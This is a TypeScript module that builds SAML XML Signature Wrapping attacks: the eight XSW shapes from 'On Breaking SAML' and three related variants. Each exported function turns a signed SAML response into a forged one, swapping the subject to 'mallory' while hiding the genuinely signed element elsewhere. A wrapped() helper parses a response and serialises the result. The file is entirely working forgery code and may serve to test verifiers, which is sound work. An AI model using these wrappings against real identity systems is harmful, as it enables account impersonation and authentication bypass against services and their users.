/**
 * The eight signature-wrapping shapes of Somorovsky et al., "On Breaking SAML" (2012), and some of their kin: each
 * takes a signed response and puts a forged element where a careless reader looks, the signed one elsewhere.
 */
import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

type Wrap = (response: Element, assertion: Element) => Element;

const DSIG = "http://www.w3.org/2000/09/xmldsig#";
const PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";

function copy(element: Element): Element {
  return element.cloneNode(true) as Element;
}

function signatureOf(element: Element): Element | undefined {
  return Array.from(element.childNodes).find((node) => node.nodeName === "ds:Signature") as Element | undefined;
}

function withoutSignature(element: Element): Element {
  const bare = copy(element);
  const signature = signatureOf(bare);
  if (signature) bare.removeChild(signature);
  return bare;
}

/** Another subject, another ID unless told otherwise. */
function forged(element: Element, id: string | null = "_forged"): Element {
  const evil = copy(element);
  if (id !== null) evil.setAttribute("ID", id);
  const names = Array.from(evil.getElementsByTagName("saml:NameID"));
  for (const name of names) name.textContent = "mallory";
  return evil;
}

function wrapper(near: Element, namespace: string, name: string): Element {
  return near.ownerDocument.createElementNS(namespace, name);
}

function inObject(signature: Element | undefined, content: Element): void {
  const object = wrapper(content, DSIG, "ds:Object");
  object.appendChild(content);
  signature?.appendChild(object);
}

function inExtensions(response: Element, content: Element): void {
  const extensions = wrapper(content, PROTOCOL, "samlp:Extensions");
  extensions.appendChild(content);
  response.insertBefore(extensions, response.firstChild);
}

export const wrappings: Readonly<Record<string, Wrap>> = {
  /** The forged response keeps the signature, which holds the original response. */
  XSW1: (response) => {
    const evil = forged(response);
    const original = withoutSignature(response);
    (signatureOf(evil) ?? evil).appendChild(original);
    return evil;
  },
  /** The same, the original beside the signature. */
  XSW2: (response) => {
    const evil = forged(response);
    evil.insertBefore(withoutSignature(response), signatureOf(evil) ?? evil.firstChild);
    return evil;
  },
  /** A forged assertion before the original. */
  XSW3: (response, assertion) => {
    response.insertBefore(withoutSignature(forged(assertion)), assertion);
    return response;
  },
  /** The original inside the forged assertion. */
  XSW4: (response, assertion) => {
    const evil = withoutSignature(forged(assertion));
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    return response;
  },
  /** The forged assertion keeps the signature, the original stands after it. */
  XSW5: (response, assertion) => {
    const evil = forged(assertion);
    response.replaceChild(evil, assertion);
    response.appendChild(withoutSignature(assertion));
    return response;
  },
  /** The forged assertion keeps the signature, which holds the original. */
  XSW6: (response, assertion) => {
    const evil = forged(assertion);
    response.replaceChild(evil, assertion);
    (signatureOf(evil) ?? evil).appendChild(withoutSignature(assertion));
    return response;
  },
  /** Extensions hold the forged assertion under the ID of the original. */
  XSW7: (response, assertion) => {
    inExtensions(response, withoutSignature(forged(assertion, null)));
    return response;
  },
  /** An Object in the signature of the forged assertion holds the original. */
  XSW8: (response, assertion) => {
    const evil = forged(assertion, null);
    response.replaceChild(evil, assertion);
    inObject(signatureOf(evil), withoutSignature(assertion));
    return response;
  },
  "same ID, forged first": (response, assertion) => {
    response.insertBefore(withoutSignature(forged(assertion, null)), response.firstChild);
    return response;
  },
  "in Advice of an unsigned assertion": (response, assertion) => {
    const evil = withoutSignature(forged(assertion));
    response.replaceChild(evil, assertion);
    const advice = wrapper(assertion, "urn:oasis:names:tc:SAML:2.0:assertion", "saml:Advice");
    advice.appendChild(assertion);
    evil.appendChild(advice);
    return response;
  },
  "in an Extensions of a foreign namespace": (response, assertion) => {
    const evil = withoutSignature(forged(assertion));
    response.replaceChild(evil, assertion);
    const extensions = wrapper(assertion, "urn:example:other", "o:Extensions");
    extensions.appendChild(assertion);
    response.insertBefore(extensions, evil);
    return response;
  },
};

/** Parses a signed response, wraps it, and writes it. */
export function wrapped(xml: string, wrap: Wrap): string {
  const document = new DOMParser().parseFromString(xml, "text/xml");
  const response = document.documentElement;
  const [assertion] = Array.from(response.getElementsByTagName("saml:Assertion"));
  if (!assertion) throw new Error("The response to wrap has no assertion.");
  return new XMLSerializer().serializeToString(wrap(response, assertion));
}
